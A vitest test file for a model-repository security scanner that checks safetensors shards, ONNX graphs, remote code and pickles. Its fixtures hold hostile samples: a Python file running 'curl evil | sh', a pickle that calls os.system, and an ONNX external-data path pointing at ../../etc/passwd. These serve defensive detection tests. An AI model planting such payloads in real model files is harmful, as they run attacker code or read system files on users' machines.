import { describe, expect, it } from 'vitest';
import { bufferSource, inspectFile, mainOnnxFiles, scanVersion, type VersionFileInput } from '@vetted/formats';
import { buildOnnxModel, mlpModel } from '../../../test/onnx-model.js';
import { safetensorsFile } from './safetensors-writer.js';

const file = (path: string, bytes: Buffer | string): VersionFileInput => {
  const data = typeof bytes === 'string' ? Buffer.from(bytes) : bytes;
  return { path, size: data.length, source: bufferSource(data) };
};

describe('scanVersion', () => {
  it('sums a sharded safetensors checkpoint, reads config facts and estimates the hardware fit', async () => {
    const shard1 = safetensorsFile({ 'a.weight': { dtype: 'BF16', shape: [4, 8] } });
    const shard2 = safetensorsFile({ 'b.weight': { dtype: 'BF16', shape: [8] }, 'b.bias': { dtype: 'F32', shape: [2] } });
    const index = JSON.stringify({
      metadata: { total_size: 64 + 16 + 8 },
      weight_map: {
        'a.weight': 'model-00001-of-00002.safetensors',
        'b.weight': 'model-00002-of-00002.safetensors',
        'b.bias': 'model-00002-of-00002.safetensors',
      },
    });
    const config = JSON.stringify({ architectures: ['LlamaForCausalLM'], model_type: 'llama', max_position_embeddings: 8192 });
    const scan = await scanVersion([
      file('config.json', config),
      file('model-00001-of-00002.safetensors', shard1),
      file('model-00002-of-00002.safetensors', shard2),
      file('model.safetensors.index.json', index),
    ]);
    expect(scan.files.map((f) => [f.path, f.status])).toEqual([
      ['config.json', 'clean'],
      ['model-00001-of-00002.safetensors', 'clean'],
      ['model-00002-of-00002.safetensors', 'clean'],
      ['model.safetensors.index.json', 'clean'],
    ]);
    expect(scan.facts).toMatchObject({
      weightsFrom: { format: 'safetensors', files: ['model-00001-of-00002.safetensors', 'model-00002-of-00002.safetensors'] },
      parameters: 42,
      parametersByDtype: { bfloat16: 40, float32: 2 },
      bytesByDtype: { bfloat16: 80, float32: 8 },
      formats: ['safetensors'],
      architecture: 'LlamaForCausalLM',
      contextLength: 8192,
      remoteCode: false,
      benchmarkFiles: [],
    });
    expect(scan.facts.hardwareFit?.fits.every((fit) => fit.fits)).toBe(true);
  });

  it('reports a shard the index names but the version lacks as critical on the index', async () => {
    const index = JSON.stringify({
      weight_map: { 'a.weight': 'model-00001-of-00002.safetensors', 'b.weight': 'model-00002-of-00002.safetensors' },
    });
    const scan = await scanVersion([
      file('model-00001-of-00002.safetensors', safetensorsFile({ 'a.weight': { dtype: 'F16', shape: [2] } })),
      file('model.safetensors.index.json', index),
    ]);
    const indexScan = scan.files.find((f) => f.path === 'model.safetensors.index.json')!;
    expect(indexScan.status).toBe('critical');
    expect(indexScan.findings.map((f) => f.code)).toContain('shard_missing');
  });

  it('flags ONNX external data that leaves the version, and counts the main ONNX graph once', async () => {
    const escaping = buildOnnxModel({
      inputs: [{ name: 'x', type: 'float', shape: [1, 2] }],
      outputs: [{ name: 'y', type: 'float', shape: [1, 2] }],
      nodes: [{ op: 'Add', inputs: ['x', 'w'], outputs: ['y'] }],
      initializers: [{ name: 'w', dims: [2], external: { location: '../../etc/passwd', offset: '0', length: '8' } }],
    });
    const scan = await scanVersion([file('model.onnx', mlpModel(4, 2)), file('onnx/model_quantized.onnx', escaping)]);
    expect(scan.files.find((f) => f.path === 'model.onnx')!.status).toBe('clean');
    const bad = scan.files.find((f) => f.path === 'onnx/model_quantized.onnx')!;
    expect(bad.status).toBe('critical');
    expect(bad.findings.some((f) => f.severity === 'critical' && JSON.stringify(f).includes('../../etc/passwd'))).toBe(true);
    expect(scan.benchmarkCandidates).toEqual(['model.onnx', 'onnx/model_quantized.onnx']);
    expect(scan.facts).toMatchObject({
      weightsFrom: { format: 'onnx', files: ['model.onnx'] },
      parameters: 2 * (16 + 4),
      formats: ['onnx'],
      onnx: [{ path: 'model.onnx', inputs: [{ name: 'x', dtype: 'float32', shape: ['batch', 4] }] }, { path: 'onnx/model_quantized.onnx' }],
    });
  });

  it('labels remote code, scripts and pickles that run code; never calls a file clean it could not read', async () => {
    const scan = await scanVersion([
      file('config.json', JSON.stringify({ auto_map: { AutoModel: 'modeling_evil.EvilModel' } })),
      file('modeling_evil.py', 'import os\nos.system("curl evil | sh")\n'),
      file('weights.dat', Buffer.from("cposix\nsystem\n(S'id'\ntR.", 'latin1')),
      file('model.safetensors', Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff])),
    ]);
    const status = Object.fromEntries(scan.files.map((f) => [f.path, f.status]));
    expect(status).toEqual({
      'config.json': 'warning',
      'modeling_evil.py': 'warning',
      'weights.dat': 'critical',
      'model.safetensors': 'critical',
    });
    expect(scan.facts.remoteCode).toBe(true);
  });

  it('fails closed when an inspector cannot finish in time', async () => {
    const stuck = { size: 1024, read: () => new Promise<Buffer>(() => undefined) };
    const result = await inspectFile('model.safetensors', stuck, 50);
    expect(result).toMatchObject({ status: 'error', findings: [{ severity: 'critical', code: 'scan_failed' }] });
  });
});

describe('mainOnnxFiles', () => {
  it('picks the main graph and its quantized variant, else the shallowest ONNX file', () => {
    expect(mainOnnxFiles(['onnx/decoder_model.onnx', 'onnx/model.onnx', 'onnx/model_quantized.onnx', 'onnx/model_fp16.onnx'])).toEqual([
      'onnx/model.onnx',
      'onnx/model_quantized.onnx',
    ]);
    expect(mainOnnxFiles(['b/deep/x.onnx', 'encoder.onnx', 'config.json'])).toEqual(['encoder.onnx']);
    expect(mainOnnxFiles(['weights.bin'])).toEqual([]);
  });
});
